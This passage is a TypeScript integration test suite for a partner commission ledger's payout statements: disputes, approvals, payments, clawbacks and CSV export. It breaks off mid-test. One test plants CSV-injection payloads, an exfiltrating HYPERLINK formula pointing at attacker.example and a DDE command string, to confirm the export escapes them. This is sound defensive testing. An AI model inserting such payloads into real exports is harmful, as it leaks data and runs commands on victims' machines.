import { Decimal, type RuleSetDocument } from '#domain';
import type { EventStore } from '#event-store';
import { Projector } from '#read-models';
import { ruleSet } from '../../libs/domain/src/commission/testing/commission-builders.js';
import { EVENT_STORE } from '../../apps/ledger/src/common/tokens.js';
import { MdfAccrualReactor } from '../../apps/ledger/src/mdf/mdf-accrual.reactor.js';
import { parseCsv } from '../support/csv.js';
import { startLedger, type LedgerHarness } from '../support/ledger-app.js';

/**
 * Payout statements over HTTP, as finance and a partner would use them (issue 5's acceptance): deals
 * won, a campaign funded from MDF with two milestones and a claim, quarters closed, statements issued,
 * disputed, resolved, approved by a second finance user and paid, a clawback and the adjustment on the
 * next statement; refusals that change nothing; the export; and the statement reading the same before
 * and after a full rebuild.
 */
interface StatementLineBody {
  lineId: string;
  kind: string;
  amount: string;
  description: string;
  commission?: {
    lineId: string;
    dealId: string;
    source: { eventId: string; position: string; type: string };
    ruleSet: { version: string };
    tier: { name: string };
    reversal: { reversedLineId: string } | null;
  };
  adjustment?: {
    reason: string;
    adjusts: { statementId: string; lineId: string; amount: string };
    dispute?: { disputeNumber: number; resolvedBy: string };
  };
  claim?: { claimId: string; campaignId: string };
}

interface StatementBody {
  statementId: string;
  partnerId: string;
  period: string;
  currency: string;
  status: string;
  lines: StatementLineBody[];
  subtotals: Record<string, string>;
  total: string;
  payable: string;
  carriedForward: string;
  issuedBy: string;
  disputes: Array<{
    lineId: string;
    status: string;
    outcome: string | null;
    adjustment: string | null;
    adjustmentLine: { statementId: string; lineId: string } | null;
  }>;
  adjustedBy: Array<{ statementId: string; lineId: string; adjustsLineId: string; reason: string; amount: string }>;
  approval: { approvedBy?: string; approvedAt: string } | null;
  payment: { paymentReference: string; paidAt: string; amount: string } | null;
}

type ProductLine = { sku: string; family: string; amount: string };
const software = (amount: string): ProductLine => ({ sku: 'PLATFORM', family: 'software', amount });

describe('payout statements over HTTP', () => {
  let ledger: LedgerHarness;
  let last = '0';
  const fiona = () => ledger.auth('finance', 'fiona');
  const frank = () => ledger.auth('finance', 'frank');
  const manager = () => ledger.auth('partner_manager', 'maria');
  const partnerUser = (partnerId: string) => ledger.auth('partner', `${partnerId}-user`, partnerId);
  const on = (date: string) => ledger.clock.set(`${date}T12:00:00.000Z`);
  const track = <R extends { body: { position?: string } }>(response: R): R => {
    if (response.body.position) last = response.body.position;
    return response;
  };
  const head = () => ledger.app.get<EventStore>(EVENT_STORE).headPosition();

  /** The projector, then the MDF accrual reactor behind it, then the projector again for what the reactor appended. */
  async function settle(): Promise<void> {
    await ledger.caughtUp();
    await ledger.app.get(MdfAccrualReactor).runUntilCaughtUp();
    await ledger.caughtUp();
    last = (await head()).toString();
  }

  async function fund(partnerId: string): Promise<{
    figures: Record<string, string>;
    claims: Array<{ claimId: string; status: string; statementId: string | null }>;
  }> {
    return (await ledger.http.get(`/partners/${partnerId}/mdf?after=${last}`).set(fiona()).expect(200)).body;
  }

  function campaignBody(campaignId: string, partnerId: string, milestones: Array<[string, string]>) {
    const budget = milestones.reduce((total, [, amount]) => total.plus(amount), new Decimal(0)).toFixed(2);
    return {
      campaignId,
      partnerId,
      name: `Campaign ${campaignId}`,
      budget,
      goals: { leads: 2, pipeline: '20000.00' },
      milestones: milestones.map(([id, amount]) => ({ id, amount })),
    };
  }

  async function publish(document: RuleSetDocument): Promise<void> {
    track(await ledger.publish(document));
  }

  async function enroll(...partnerIds: string[]): Promise<void> {
    (await ledger.enroll(...partnerIds)).forEach(track);
  }

  async function wonDeal(partnerId: string, dealId: string, wonAt: string, amount: string): Promise<void> {
    on(wonAt);
    const deal = {
      dealId,
      customer: { name: `Customer of ${dealId}`, domain: `${dealId}.example` },
      partners: [{ partnerId, role: 'sourcing', share: '1' }],
      currency: 'USD',
      openedAt: wonAt,
    };
    track(await ledger.http.post('/deals').set(manager()).send(deal).expect(201));
    track(
      await ledger.http
        .post(`/deals/${dealId}/win`)
        .set(manager())
        .send({ lines: [software(amount)], billing: 'one_time', wonAt })
        .expect(200),
    );
  }

  async function refund(dealId: string, refundedAt: string, amount: string): Promise<void> {
    on(refundedAt);
    track(await ledger.http.post(`/deals/${dealId}/refund`).set(manager()).send({ amount, refundedAt }).expect(200));
  }

  async function close(period: string, today: string): Promise<void> {
    on(today);
    track(await ledger.http.post(`/periods/${period}/close`).set(fiona()).expect(200));
  }

  async function issue(partnerId: string, period: string, as = fiona()): Promise<string> {
    const response = track(await ledger.http.post('/statements').set(as).send({ partnerId, period }).expect(201));
    expect(response.body).toMatchObject({ statementId: `${partnerId}-${period}` });
    return response.body.statementId as string;
  }

  async function statement(statementId: string, as = fiona()): Promise<StatementBody> {
    return (await ledger.http.get(`/statements/${statementId}?after=${last}`).set(as).expect(200))
      .body as StatementBody;
  }

  /** acme wins d1 for 10000.00 under the default rules; Q1 is closed and acme's statement issued on 2026-04-03. */
  async function issuedQ1ForAcme(): Promise<string> {
    on('2026-01-02');
    await publish(ruleSet());
    await enroll('acme');
    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
    await close('2026-Q1', '2026-04-02');
    on('2026-04-03');
    return issue('acme', '2026-Q1');
  }

  /**
   * Σ lines = total, each subtotal = Σ lines of its kind, payable/carried forward split the total:
   * exact decimals, never JS numbers.
   */
  function expectBalanced(body: StatementBody): void {
    const sum = (lines: StatementLineBody[]) => lines.reduce((total, line) => total.plus(line.amount), new Decimal(0));
    expect(sum(body.lines).toFixed(2)).toBe(body.total);
    for (const [kind, subtotal] of Object.entries(body.subtotals))
      expect(sum(body.lines.filter((line) => line.kind === kind)).toFixed(2)).toBe(subtotal);
    expect(Decimal.max(body.total, 0).toFixed(2)).toBe(body.payable);
    expect(Decimal.min(body.total, 0).toFixed(2)).toBe(body.carriedForward);
  }

  /** A refused request: the code, and nothing appended to the log. */
  async function refused(
    send: () => Promise<{ status: number; body: { error?: string } }>,
    status: number,
    code: string,
  ): Promise<{ details?: unknown }> {
    const before = await head();
    const response = await send();
    expect({ status: response.status, error: response.body.error }).toEqual({ status, error: code });
    expect(await head()).toBe(before);
    return response.body as { details?: unknown };
  }

  /** acme disputes a line of its statement (answered 200, tracked). */
  async function disputeAsAcme(statementId: string, lineId: string, reason: string): Promise<void> {
    const path = `/statements/${statementId}/lines/${lineId}/dispute`;
    track(await ledger.http.post(path).set(partnerUser('acme')).send({ reason }).expect(200));
  }

  /** Finance resolving a dispute of the line with an adjustment, to send (or refuse) later. */
  const resolvingAdjusted = (statementId: string, lineId: string, adjustment: string) => () =>
    ledger.http
      .post(`/statements/${statementId}/lines/${lineId}/resolve`)
      .set(fiona())
      .send({ outcome: 'adjusted', adjustment });

  /** The default rules corrected from 2026-01-01 on: the registered rate was `registered` all along. */
  const correctedRates = (registered: string) =>
    publish(
      ruleSet({
        version: '2026.2',
        effectiveFrom: '2026-01-01',
        commission: { rates: { registered, silver: '0.10', gold: '0.15' } },
      }),
    );

  beforeEach(async () => {
    ledger = await startLedger();
    last = '0';
  });
  afterEach(() => ledger.close());

  // Two quarters of deals, a campaign with two milestones and a claim, a statement issued, disputed, resolved,
  // approved by a second user and paid, a clawback and the adjustment on the next one, the export, a rebuild.
  it('acceptance: payout statements end to end', async () => {
    // A program accruing MDF at 10% of won revenue at every tier.
    on('2026-01-02');
    await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
    await enroll('acme', 'bolt');
    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
    await wonDeal('acme', 'd2', '2026-01-20', '4000.00');
    await wonDeal('bolt', 'd3', '2026-01-15', '2000.00');
    // Won in February, it vests on 2026-04-21: after the quarter's end, so it waits for the Q2 statement.
    await wonDeal('acme', 'd4', '2026-02-20', '2000.00');
    await settle();
    expect((await fund('acme')).figures).toMatchObject({ accrued: '1600.00', available: '1600.00' });

    // A campaign with two milestones, funded from the MDF; one beyond the fund is refused and commits nothing.
    on('2026-01-25');
    track(
      await ledger.http
        .post('/campaigns')
        .set(partnerUser('acme'))
        .send(
          campaignBody('big', 'acme', [
            ['m1', '1000.00'],
            ['m2', '1000.00'],
          ]),
        )
        .expect(201),
    );
    await refused(() => ledger.http.post('/campaigns/big/approve').set(manager()), 422, 'MDF_INSUFFICIENT_FUNDS');
    track(
      await ledger.http
        .post('/campaigns')
        .set(partnerUser('acme'))
        .send(
          campaignBody('c1', 'acme', [
            ['m1', '500.00'],
            ['m2', '700.00'],
          ]),
        )
        .expect(201),
    );
    track(await ledger.http.post('/campaigns/c1/approve').set(manager()).expect(200));
    on('2026-02-02');
    track(
      await ledger.http
        .post('/campaigns/c1/milestones/m1/complete')
        .set(manager())
        .send({ evidence: 'Webinar held, 120 attendees' })
        .expect(200),
    );
    await refused(
      () =>
        ledger.http
          .post('/campaigns/c1/claims')
          .set(partnerUser('acme'))
          .send({ claimId: 'cl1', amount: '500.01', evidence: 'Invoice INV-77' }),
      422,
      'MDF_CLAIM_EXCEEDS_RELEASED',
    );
    track(
      await ledger.http
        .post('/campaigns/c1/claims')
        .set(partnerUser('acme'))
        .send({ claimId: 'cl1', amount: '450.00', evidence: 'Invoice INV-77' })
        .expect(201),
    );
    track(await ledger.http.post('/campaigns/c1/claims/cl1/approve').set(manager()).expect(200));
    on('2026-03-02');
    track(
      await ledger.http
        .post('/campaigns/c1/milestones/m2/complete')
        .set(manager())
        .send({ evidence: 'Trade show booth' })
        .expect(200),
    );
    expect((await fund('acme')).figures).toMatchObject({
      committed: '1200.00',
      released: '1200.00',
      claimed: '450.00',
      approved: '450.00',
      paid: '0.00',
      available: '400.00',
    });

    on('2026-03-31');
    await refused(
      () => ledger.http.post('/statements').set(fiona()).send({ partnerId: 'acme', period: '2026-Q1' }),
      422,
      'STATEMENT_PERIOD_NOT_CLOSED',
    );
    await close('2026-Q1', '2026-04-02');

    on('2026-04-03');
    const q1Id = await issue('acme', '2026-Q1');
    await issue('bolt', '2026-Q1');
    const q1 = await statement(q1Id);
    // The day before, the balance's next statement was this one: its commission lines and the approved claim.
    const dayBefore = (await ledger.http.get(`/partners/acme/balance?asOf=2026-04-02`).set(fiona()).expect(200)).body;
    expect(dayBefore.balances[0]).toMatchObject({ mdfClaimsApproved: '450.00', carriedForward: '0.00' });
    expect(dayBefore.balances[0].payableNext).toBe(q1.total);
    expect(q1).toMatchObject({
      statementId: 'acme-2026-Q1',
      partnerId: 'acme',
      period: '2026-Q1',
      currency: 'USD',
      status: 'issued',
      issuedBy: 'fiona',
      total: '1150.00',
      payable: '1150.00',
      carriedForward: '0.00',
    });
    expect(q1.lines.map((line) => [line.kind, line.commission?.dealId ?? line.claim?.claimId, line.amount])).toEqual([
      ['commission', 'd1', '500.00'],
      ['commission', 'd2', '200.00'],
      ['mdf_claim', 'cl1', '450.00'],
    ]);
    expect(q1.subtotals).toEqual({
      carry_forward: '0.00',
      commission: '700.00',
      clawback: '0.00',
      adjustment: '0.00',
      mdf_claim: '450.00',
    });
    expect(q1.lines[0]!.commission).toMatchObject({
      ruleSet: { version: '2026.1' },
      tier: { name: 'registered' },
      source: { type: 'DealWon' },
    });
    expectBalanced(q1);
    const d2Line = q1.lines[1]!.lineId;
    // A retry of the same issue replays it; issuing again is refused.
    const replay = await ledger.http
      .post('/statements')
      .set(fiona())
      .send({ partnerId: 'acme', period: '2026-Q1' })
      .expect(201);
    expect(replay.headers['idempotent-replayed']).toBe('true');
    await refused(
      () =>
        ledger.http
          .post('/statements')
          .set(fiona())
          .set('Idempotency-Key', 'another')
          .send({ partnerId: 'acme', period: '2026-Q1' }),
      409,
      'STATEMENT_ALREADY_ISSUED',
    );

    // The partner disputes its d2 line; a partner cannot dispute another partner's line,
    // nor read or export another's statements.
    on('2026-04-05');
    track(
      await ledger.http
        .post(`/statements/${q1Id}/lines/${d2Line}/dispute`)
        .set(partnerUser('acme'))
        .send({ reason: 'The deal desk approved 5.5% on this one' })
        .expect(200),
    );
    await refused(
      () =>
        ledger.http
          .post(`/statements/${q1Id}/lines/${d2Line}/dispute`)
          .set(partnerUser('bolt'))
          .send({ reason: 'Not mine to dispute' }),
      404,
      'STATEMENT_NOT_FOUND',
    );
    await refused(() => ledger.http.get(`/statements/${q1Id}`).set(partnerUser('bolt')), 404, 'STATEMENT_NOT_FOUND');
    await refused(
      () => ledger.http.get('/statements?partnerId=acme&format=csv').set(partnerUser('bolt')),
      404,
      'PARTNER_NOT_FOUND',
    );
    const boltOwn = await ledger.http.get(`/statements?format=csv&after=${last}`).set(partnerUser('bolt')).expect(200);
    expect(parseCsv(boltOwn.text).map((row) => row['statement_id'])).toEqual(['bolt-2026-Q1']);

    // Approval needs a second person and no open dispute.
    await refused(
      () => ledger.http.post(`/statements/${q1Id}/approve`).set(fiona()),
      422,
      'STATEMENT_APPROVER_IS_ISSUER',
    );
    await refused(() => ledger.http.post(`/statements/${q1Id}/approve`).set(frank()), 422, 'STATEMENT_DISPUTE_OPEN');
    await refused(
      () => ledger.http.post(`/statements/${q1Id}/pay`).set(fiona()).send({ paymentReference: 'SEPA-1' }),
      422,
      'STATEMENT_NOT_APPROVED',
    );
    expect((await statement(q1Id)).disputes).toMatchObject([{ lineId: d2Line, status: 'open' }]);

    on('2026-04-08');
    track(
      await ledger.http
        .post(`/statements/${q1Id}/lines/${d2Line}/resolve`)
        .set(fiona())
        .send({ outcome: 'adjusted', adjustment: '20.00', note: 'Deal desk confirmed 5.5%' })
        .expect(200),
    );
    track(await ledger.http.post(`/statements/${q1Id}/approve`).set(frank()).expect(200));
    on('2026-04-10');
    track(
      await ledger.http
        .post(`/statements/${q1Id}/pay`)
        .set(fiona())
        .send({ paymentReference: 'SEPA-2026-04-0915', paidAt: '2026-04-10' })
        .expect(200),
    );
    const paid = await statement(q1Id, partnerUser('acme'));
    expect(paid).toMatchObject({
      status: 'paid',
      total: '1150.00',
      approval: { approvedAt: '2026-04-08' },
      payment: { paymentReference: 'SEPA-2026-04-0915', paidAt: '2026-04-10', amount: '1150.00' },
      disputes: [
        { lineId: d2Line, status: 'resolved', outcome: 'adjusted', adjustment: '20.00', adjustmentLine: null },
      ],
    });
    expect(paid.lines).toEqual(q1.lines);
    // The partner reads no staff identity; finance does.
    expect(paid).not.toHaveProperty('issuedBy');
    expect(paid.approval).not.toHaveProperty('approvedBy');
    expect(await statement(q1Id)).toMatchObject({ issuedBy: 'fiona', approval: { approvedBy: 'frank' } });
    // Paying the statement paid the claim on it, on the payment's date.
    const paidFund = await fund('acme');
    expect(paidFund.figures).toMatchObject({ approved: '450.00', paid: '450.00' });
    expect(paidFund.claims).toMatchObject([{ claimId: 'cl1', status: 'paid', statementId: q1Id }]);

    // Q2: a refund of a fifth of d1 claws back 100.00; d4 vests; the dispute adjustment arrives.
    await refund('d1', '2026-05-05', '2000.00');
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2Id = await issue('acme', '2026-Q2');
    const q2 = await statement(q2Id);
    // The claim was paid on the first statement, so it is not on this one. Lines read by business date: the
    // dispute was resolved in April, before the refund of 2026-05-05.
    expect(q2.lines.map((line) => [line.kind, line.amount])).toEqual([
      ['commission', '100.00'],
      ['adjustment', '20.00'],
      ['clawback', '-100.00'],
    ]);
    expect(q2.lines[2]!.commission).toMatchObject({
      dealId: 'd1',
      source: { type: 'DealRefunded' },
      reversal: { reversedLineId: q1.lines[0]!.lineId },
    });
    expect(q2.lines[1]).toMatchObject({
      lineId: `dispute:${q1Id}:${d2Line}:1`,
      adjustment: {
        reason: 'dispute',
        adjusts: { statementId: q1Id, lineId: d2Line, amount: '200.00' },
        dispute: { disputeNumber: 1, resolvedBy: 'fiona' },
      },
    });
    expect(q2).toMatchObject({ total: '20.00', payable: '20.00' });
    expectBalanced(q2);
    // The first statement links to the line that carried its adjustment, and its lines are as issued.
    const linked = await statement(q1Id);
    expect(linked.lines).toEqual(q1.lines);
    expect(linked.disputes[0]!.adjustmentLine).toEqual({ statementId: q2Id, lineId: `dispute:${q1Id}:${d2Line}:1` });
    expect(linked.adjustedBy).toEqual([
      {
        statementId: q2Id,
        lineId: `dispute:${q1Id}:${d2Line}:1`,
        adjustsLineId: d2Line,
        reason: 'dispute',
        amount: '20.00',
      },
    ]);

    // Balances: issued and paid are the statements' commission lines, clawbacks and adjustments.
    const balance = await ledger.http
      .get(`/partners/acme/balance?asOf=2026-07-03&after=${last}`)
      .set(fiona())
      .expect(200);
    expect(balance.body.balances).toEqual([
      {
        currency: 'USD',
        earned: '800.00',
        accrued: '0.00',
        vested: '800.00',
        forfeited: '0.00',
        clawedBack: '-100.00',
        adjustments: '20.00',
        payable: '0.00',
        issued: '720.00',
        paid: '700.00',
        disputed: '0.00',
        carriedForward: '0.00',
        mdfClaimsApproved: '0.00',
        payableNext: '0.00',
      },
    ]);
    const april = await ledger.http
      .get(`/partners/acme/balance?asOf=2026-04-06&after=${last}`)
      .set(partnerUser('acme'))
      .expect(200);
    expect(april.body.balances[0]).toMatchObject({
      vested: '700.00',
      issued: '700.00',
      paid: '0.00',
      payable: '0.00',
      disputed: '200.00',
      adjustments: '0.00',
    });

    // The export: one row per line with its provenance.
    const csv = await ledger.http
      .get(`/statements?partnerId=acme&format=csv&after=${last}`)
      .set(ledger.auth('auditor', 'aude'))
      .expect(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const rows = parseCsv(csv.text);
    expect(rows.map((row) => [row['statement_id'], row['kind'], row['deal_id'], row['amount']])).toEqual([
      [q1Id, 'commission', 'd1', '500.00'],
      [q1Id, 'commission', 'd2', '200.00'],
      [q1Id, 'mdf_claim', '', '450.00'],
      [q2Id, 'commission', 'd4', '100.00'],
      [q2Id, 'adjustment', '', '20.00'],
      [q2Id, 'clawback', 'd1', '-100.00'],
    ]);
    expect(rows[0]).toMatchObject({
      line_id: q1.lines[0]!.lineId,
      source_event_id: q1.lines[0]!.commission!.source.eventId,
      source_position: q1.lines[0]!.commission!.source.position,
      rule_set_version: '2026.1',
      tier: 'registered',
      component_standard: '500',
      status: 'paid',
    });
    expect(rows[1]).toMatchObject({
      disputes: '1:resolved:adjusted:20.00',
      adjusted_by: `${q2Id}/dispute:${q1Id}:${d2Line}:1`,
    });
    expect(rows[2]).toMatchObject({
      line_id: 'mdf-claim:cl1',
      mdf_claim_id: 'cl1',
      campaign_id: 'c1',
      claim_evidence: 'Invoice INV-77',
      claim_approved_at: '2026-02-02',
    });
    expect(rows[5]).toMatchObject({ reverses_line_id: q1.lines[0]!.lineId, source_type: 'DealRefunded' });
    expect(rows[4]).toMatchObject({
      adjustment_reason: 'dispute',
      adjusts_statement_id: q1Id,
      adjusts_line_id: d2Line,
      adjusts_amount: '200.00',
      dispute_number: '1',
    });
    const json = await ledger.http.get(`/statements?period=2026-Q1&after=${last}`).set(fiona()).expect(200);
    expect(json.body.statements.map((body: StatementBody) => body.statementId)).toEqual([
      'acme-2026-Q1',
      'bolt-2026-Q1',
    ]);

    // The first statement reads byte for byte the same after a full rebuild.
    const before = (await ledger.http.get(`/statements/${q1Id}?after=${last}`).set(fiona()).expect(200)).text;
    const csvBefore = csv.text;
    await ledger.app.get(Projector).rebuild();
    expect((await ledger.http.get(`/statements/${q1Id}`).set(fiona()).expect(200)).text).toBe(before);
    expect((await ledger.http.get('/statements?partnerId=acme&format=csv').set(fiona()).expect(200)).text).toBe(
      csvBefore,
    );
  });

  it('escapes formula-like CSV cells (a dispute reason, claim evidence), negative amounts stay numeric', async () => {
    const hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
    on('2026-01-02');
    await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
    await enroll('acme');
    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
    await settle();
    on('2026-01-25');
    track(
      await ledger.http
        .post('/campaigns')
        .set(partnerUser('acme'))
        .send(campaignBody('c1', 'acme', [['m1', '500.00']]))
        .expect(201),
    );
    track(await ledger.http.post('/campaigns/c1/approve').set(manager()).expect(200));
    track(
      await ledger.http
        .post('/campaigns/c1/milestones/m1/complete')
        .set(manager())
        .send({ evidence: 'Webinar held' })
        .expect(200),
    );
    const claim = { claimId: 'cl1', amount: '400.00', evidence: '@SUM(1+1)*cmd|" /C calc"!A0' };
    track(await ledger.http.post('/campaigns/c1/claims').set(partnerUser('acme')).send(claim).expect(201));
    track(await ledger.http.post('/campaigns/c1/claims/cl1/approve').set(manager()).expect(200));
    await close('2026-Q1', '2026-04-02');
    on('2026-04-03');
    const q1Id = await issue('acme', '2026-Q1');
    const d1Line = (await statement(q1Id)).lines.find((line) => line.commission?.dealId === 'd1')!.lineId;
    track(
      await ledger.http
        .post(`/statements/${q1Id}/lines/${d1Line}/dispute`)
        .set(partnerUser('acme'))
        .send({ reason: hyperlink })
        .expect(200),
    );
    track(
      await ledger.http
        .post(`/statements/${q1Id}/lines/${d1Line}/resolve`)
        .set(fiona())
        .send({ outcome: 'adjusted', adjustment: '-50.00' })
        .expect(200),
    );
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2Id = await issue('acme', '2026-Q2');

    const csv = await ledger.http.get(`/statements?partnerId=acme&format=csv&after=${last}`).set(fiona()).expect(200);
    const rows = parseCsv(csv.text);
    expect(rows.find((row) => row['kind'] === 'mdf_claim')).toMatchObject({
      statement_id: q1Id,
      claim_evidence: `'${claim.evidence}`,
      amount: '400.00',
    });
    expect(rows.find((row) => row['kind'] === 'adjustment')).toMatchObject({
      statement_id: q2Id,
      dispute_reason: `'${hyperlink}`,
      amount: '-50.00',
    });
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The JSON view is data, not a spreadsheet: it keeps the text as the partner wrote it.
    expect((await ledger.http.get(`/statements/${q1Id}`).set(fiona()).expect(200)).body.disputes[0].reason).toBe(
      hyperlink,
    );
  });

  it('retroactive rules: the next statement adjusts each issued line, linked to it and the recomputation', async () => {
    on('2026-01-02');
    await publish(ruleSet());
    await enroll('acme');
    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
    await wonDeal('acme', 'd2', '2026-01-20', '4000.00');
    await close('2026-Q1', '2026-04-02');
    on('2026-04-03');
    const q1Id = await issue('acme', '2026-Q1');
    const q1 = await statement(q1Id);
    expect(q1.total).toBe('700.00');

    // A correction published in May: the registered rate was 6% all along.
    on('2026-05-04');
    await correctedRates('0.06');
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2 = await statement(await issue('acme', '2026-Q2'));
    expect(q2.lines.map((line) => [line.kind, line.amount, line.adjustment?.reason, line.adjustment?.adjusts])).toEqual(
      [
        ['adjustment', '100.00', 'recomputation', { statementId: q1Id, lineId: q1.lines[0]!.lineId, amount: '500.00' }],
        ['adjustment', '40.00', 'recomputation', { statementId: q1Id, lineId: q1.lines[1]!.lineId, amount: '200.00' }],
      ],
    );
    expect(q2.lines[0]).toMatchObject({
      adjustment: {
        amountBefore: '500.00',
        recomputed: { lineId: q1.lines[0]!.lineId, amount: '600.00', ruleSet: { version: '2026.2' } },
      },
    });
    expect(q2.total).toBe('140.00');
    expectBalanced(q2);
    // The first statement is unchanged: still 2026.1, still 700.00.
    const first = await statement(q1Id);
    expect(first.lines).toEqual(q1.lines);
    expect(first.total).toBe('700.00');
    expect(first.adjustedBy.map((link) => [link.adjustsLineId, link.reason, link.amount])).toEqual([
      [q1.lines[0]!.lineId, 'recomputation', '100.00'],
      [q1.lines[1]!.lineId, 'recomputation', '40.00'],
    ]);
  });

  it('answers a balance after a statement with no line (a quiet quarter)', async () => {
    await issuedQ1ForAcme();
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2 = await statement(await issue('acme', '2026-Q2'));
    expect({ lines: q2.lines.length, total: q2.total }).toEqual({ lines: 0, total: '0.00' });
    const balance = await ledger.http.get(`/partners/acme/balance?asOf=2026-07-03&after=${last}`).set(fiona());
    expect(balance.status).toBe(200);
    expect(balance.body.balances[0]).toMatchObject({ carriedForward: '0.00', payableNext: '0.00' });
  });

  it("a balance's next statement starts with the negative total carried from the last one", async () => {
    const balanceOn = async (asOf: string) =>
      (await ledger.http.get(`/partners/acme/balance?asOf=${asOf}&after=${last}`).set(fiona()).expect(200)).body
        .balances[0];
    await issuedQ1ForAcme();
    await refund('d1', '2026-04-10', '10000.00');
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2 = await statement(await issue('acme', '2026-Q2'));
    expect(q2.total).toBe('-500.00');
    expect(await balanceOn('2026-07-03')).toMatchObject({ payable: '0.00', carriedForward: '-500.00' });
    await wonDeal('acme', 'd2', '2026-07-10', '30000.00');
    await close('2026-Q3', '2026-10-02');
    const september = await balanceOn('2026-09-30');
    expect(september).toMatchObject({ carriedForward: '-500.00', mdfClaimsApproved: '0.00' });
    expect(new Decimal(september.payable).plus(september.carriedForward).toFixed(2)).toBe(september.payableNext);
    on('2026-10-03');
    const q3 = await statement(await issue('acme', '2026-Q3'));
    expect(q3.total).toBe(september.payableNext);
    expect(await balanceOn('2026-10-03')).toMatchObject({ carriedForward: '0.00' });
  });

  it('a dispute on a line a refund clawed back takes back no more than the partner holds of it', async () => {
    const q1Id = await issuedQ1ForAcme();
    const [line] = (await statement(q1Id)).lines;
    expect(line).toMatchObject({ kind: 'commission', amount: '500.00' });
    await refund('d1', '2026-04-04', '6000.00');
    await disputeAsAcme(q1Id, line!.lineId, 'Was the refund applied twice?');
    const resolve = (adjustment: string) => resolvingAdjusted(q1Id, line!.lineId, adjustment);
    // The refund of 60% clawed back 300.00: the partner holds 200.00 of the line.
    const { details } = await refused(resolve('-200.01'), 422, 'STATEMENT_ADJUSTMENT_EXCEEDS_LINE');
    expect(details).toMatchObject({ field: 'adjustment', rule: 'withinHeld', lineHeld: '200.00' });
    track(await resolve('-200.00')().expect(200));
    expect((await statement(q1Id)).disputes).toMatchObject([{ lineId: line!.lineId, adjustment: '-200.00' }]);
  });

  it('a dispute of a recomputation or clawback line is weighed against the commission line it stands on', async () => {
    await issuedQ1ForAcme();
    on('2026-05-04');
    await correctedRates('0.10');
    await refund('d1', '2026-05-05', '10000.00');
    await close('2026-Q2', '2026-07-02');
    on('2026-07-03');
    const q2Id = await issue('acme', '2026-Q2');
    const q2 = await statement(q2Id);
    const [recomputation, clawback] = ['adjustment', 'clawback'].map((kind) => q2.lines.find((l) => l.kind === kind)!);
    expect([recomputation!.amount, clawback!.amount, q2.total]).toEqual(['500.00', '-1000.00', '-500.00']);
    for (const line of [recomputation!, clawback!]) {
      await disputeAsAcme(q2Id, line.lineId, 'Check');
      const resolve = resolvingAdjusted(q2Id, line.lineId, '-0.01');
      const { details } = await refused(resolve, 422, 'STATEMENT_ADJUSTMENT_EXCEEDS_LINE');
      expect(details).toMatchObject({ rule: 'withinHeld', lineHeld: '0.00' });
    }
  });

  it('four periods of one partner asked at once: whichever are issued, no line is on two of them', async () => {
    on('2026-01-02');
    await publish(ruleSet());
    await enroll('acme');
    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
    await wonDeal('acme', 'd2', '2026-04-10', '2000.00');
    await close('2026-Q1', '2026-04-02');
    await close('2026-Q2', '2026-07-02');
    await close('2026-Q3', '2026-10-02');
    await close('2026-Q4', '2027-01-02');
    on('2027-01-03');
    // Each would be the partner's first statement: each alone would take d1's line.
    const responses = await Promise.all(
      ['2026-Q4', '2026-Q3', '2026-Q2', '2026-Q1'].map((period) =>
        ledger.http.post('/statements').set(fiona()).send({ partnerId: 'acme', period }),
      ),
    );
    for (const response of responses) {
      if (response.status !== 201) expect(response.body.error).toBe('STATEMENT_PERIOD_OUT_OF_ORDER');
    }
    const issued = (
      await ledger.http
        .get(`/statements?partnerId=acme&after=${await head()}`)
        .set(fiona())
        .expect(200)
    ).body.statements as StatementBody[];
    expect(issued.length).toBe(responses.filter((response) => response.status === 201).length);
    const lineIds = issued.flatMap((body) => body.lines.map((line) => line.lineId));
    expect(new Set(lineIds).size).toBe(lineIds.length);
    expect(issued.flatMap((body) => body.lines).filter((line) => line.commission?.dealId === 'd1')).toHaveLength(1);
    expect(issued.reduce((sum, body) => sum.plus(body.total), new Decimal(0)).toFixed(2)).toBe('600.00');
  });

  it('pays once: a same-key retry replays, another finance user is told it is paid, nothing is doubled', async () => {
    const id = await issuedQ1ForAcme();
    track(await ledger.http.post(`/statements/${id}/approve`).set(frank()).expect(200));
    await refused(
      () => ledger.http.post(`/statements/${id}/approve`).set(ledger.auth('finance', 'gina')),
      409,
      'STATEMENT_ALREADY_APPROVED',
    );
    await refused(
      () =>
        ledger.http
          .post(`/statements/${id}/pay`)
          .set(fiona())
          .send({ paymentReference: 'SEPA-9', paidAt: '2026-04-05' }),
      400,
      'DATE_IN_FUTURE',
    );
    // Approved today (2026-04-03): a payment cannot be dated before that.
    const early = await refused(
      () =>
        ledger.http
          .post(`/statements/${id}/pay`)
          .set(fiona())
          .send({ paymentReference: 'SEPA-9', paidAt: '1970-01-01' }),
      422,
      'STATEMENT_PAID_BEFORE_APPROVAL',
    );
    expect(early.details).toEqual({ field: 'paidAt', earliest: '2026-04-03' });
    const body = { paymentReference: 'SEPA-2026-04-0003' };
    const first = track(
      await ledger.http
        .post(`/statements/${id}/pay`)
        .set(fiona())
        .set('Idempotency-Key', 'pay-acme-q1')
        .send(body)
        .expect(200),
    );
    const after = await head();
    const retry = await ledger.http
      .post(`/statements/${id}/pay`)
      .set(fiona())
      .set('Idempotency-Key', 'pay-acme-q1')
      .send(body)
      .expect(200);
    expect(retry.headers['idempotent-replayed']).toBe('true');
    expect(retry.body).toEqual(first.body);
    await refused(
      () => ledger.http.post(`/statements/${id}/pay`).set(frank()).send(body),
      409,
      'STATEMENT_ALREADY_PAID',
    );
    expect(await head()).toBe(after);
    expect(await statement(id)).toMatchObject({
      status: 'paid',
